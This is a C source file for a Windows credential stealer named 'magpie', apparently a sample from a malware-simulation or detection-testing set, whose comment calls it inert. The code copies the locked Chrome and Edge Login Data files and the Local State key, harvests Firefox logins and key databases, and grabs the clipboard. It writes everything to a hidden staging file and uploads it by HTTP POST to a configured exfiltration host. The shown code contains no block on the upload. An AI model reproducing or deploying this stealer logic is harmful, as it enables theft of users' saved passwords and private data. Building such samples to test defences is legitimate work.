/* magpie - stealer-like: collects browser credential stores (Chrome, Edge, Firefox), the Chrome
 * Local State key, the clipboard text, decrypts DPAPI blobs and posts everything to CFG_EXFIL as
 * multipart/form-data.  Inert: see common/inert.h. */
#include <windows.h>
#include <wincrypt.h>
#include <wininet.h>
#include <shlobj.h>
#include "config.h"
#include "../../common/inert.h"

static const char *const stores[] = { CFG_CHROME, CFG_EDGE, CFG_LOCAL_STATE };

static DWORD append_file(HANDLE out, const char *path)
{
    BYTE buf[4096];
    DWORD got, put, total = 0;
    HANDLE in = CreateFileA(path, GENERIC_READ, FILE_SHARE_READ | FILE_SHARE_WRITE, NULL, OPEN_EXISTING,
                            0, NULL);
    if (in == INVALID_HANDLE_VALUE)
        return 0;
    while (ReadFile(in, buf, sizeof buf, &got, NULL) && got) {
        WriteFile(out, buf, got, &put, NULL);
        total += got;
    }
    CloseHandle(in);
    return total;
}

static void firefox(HANDLE out, const char *appdata)
{
    char pattern[MAX_PATH], path[MAX_PATH];
    WIN32_FIND_DATAA fd;
    HANDLE h;
    wsprintfA(pattern, "%s%s\\*", appdata, CFG_FIREFOX);
    h = FindFirstFileA(pattern, &fd);
    if (h == INVALID_HANDLE_VALUE)
        return;
    do {
        if (fd.cFileName[0] == '.')
            continue;
        wsprintfA(path, "%s%s\\%s\\%s", appdata, CFG_FIREFOX, fd.cFileName, CFG_FF_LOGINS);
        append_file(out, path);
        wsprintfA(path, "%s%s\\%s\\%s", appdata, CFG_FIREFOX, fd.cFileName, CFG_FF_KEYS);
        append_file(out, path);
    } while (FindNextFileA(h, &fd));
    FindClose(h);
}

static void clipboard(HANDLE out)
{
    HANDLE data;
    const char *text;
    DWORD put;
    if (!OpenClipboard(NULL))
        return;
    data = GetClipboardData(CF_TEXT);
    if (data && (text = GlobalLock(data)) != NULL) {
        WriteFile(out, text, (DWORD)lstrlenA(text), &put, NULL);
        GlobalUnlock(data);
    }
    CloseClipboard();
}

static void dpapi_probe(void)
{
    DATA_BLOB in, plain;
    static BYTE blob[64];
    in.pbData = blob;
    in.cbData = sizeof blob;
    if (CryptUnprotectData(&in, NULL, NULL, NULL, NULL, 0, &plain))
        LocalFree(plain.pbData);
    OutputDebugStringA(CFG_SQL);
}

static int upload(const char *stage)
{
    char headers[128], boundary[64];
    BYTE buf[8192];
    DWORD got = 0;
    HINTERNET net, con, req;
    HANDLE in;
    int ok = 0;
    wsprintfA(boundary, CFG_BOUNDARY, GetTickCount());
    wsprintfA(headers, "Content-Type: multipart/form-data; boundary=%s\r\n", boundary);
    in = CreateFileA(stage, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
    if (in != INVALID_HANDLE_VALUE) {
        ReadFile(in, buf, sizeof buf, &got, NULL);
        CloseHandle(in);
    }
    OutputDebugStringA(CFG_EXFIL);
    net = InternetOpenA("Mozilla/5.0", INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
    if (net == NULL)
        return 0;
    con = InternetConnectA(net, CFG_EXFIL_HOST, INTERNET_DEFAULT_HTTP_PORT, NULL, NULL,
                           INTERNET_SERVICE_HTTP, 0, 0);
    req = con ? HttpOpenRequestA(con, "POST", CFG_EXFIL_PATH, NULL, NULL, NULL, 0, 0) : NULL;
    if (req) {
        ok = HttpSendRequestA(req, headers, (DWORD)-1, buf, got);
        InternetCloseHandle(req);
    }
    if (con)
        InternetCloseHandle(con);
    InternetCloseHandle(net);
#ifdef CFG_EXFIL_MAIL
    OutputDebugStringA(CFG_EXFIL_MAIL);
#endif
    return ok;
}

static int family_run(void)
{
    char local[MAX_PATH], roaming[MAX_PATH], path[MAX_PATH], stage[MAX_PATH];
    unsigned i;
    HANDLE out, mutex = CreateMutexA(NULL, FALSE, CFG_MUTEX);
    if (mutex == NULL || GetLastError() == ERROR_ALREADY_EXISTS)
        return 1;
    SHGetFolderPathA(NULL, CSIDL_LOCAL_APPDATA, NULL, 0, local);
    SHGetFolderPathA(NULL, CSIDL_APPDATA, NULL, 0, roaming);
    ExpandEnvironmentStringsA(CFG_STAGE, stage, sizeof stage);
    out = CreateFileA(stage, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_HIDDEN, NULL);
    if (out == INVALID_HANDLE_VALUE)
        return 2;
    for (i = 0; i < sizeof stores / sizeof stores[0]; i++) {
        char copy_fmt[MAX_PATH], copy[MAX_PATH];
        wsprintfA(path, "%s%s", local, stores[i]);
        /* the browser keeps Login Data locked: copy it aside, read the copy, delete it */
        ExpandEnvironmentStringsA(CFG_LD_COPY, copy_fmt, sizeof copy_fmt);
        wsprintfA(copy, copy_fmt, GetTickCount() + i);
        if (CopyFileA(path, copy, FALSE)) {
            append_file(out, copy);
            DeleteFileA(copy);
        } else {
            append_file(out, path);
        }
    }
    firefox(out, roaming);
    clipboard(out);
    dpapi_probe();
    CloseHandle(out);
    upload(stage);
    DeleteFileA(stage);
    return 0;
}

#include "../../common/winentry.h"
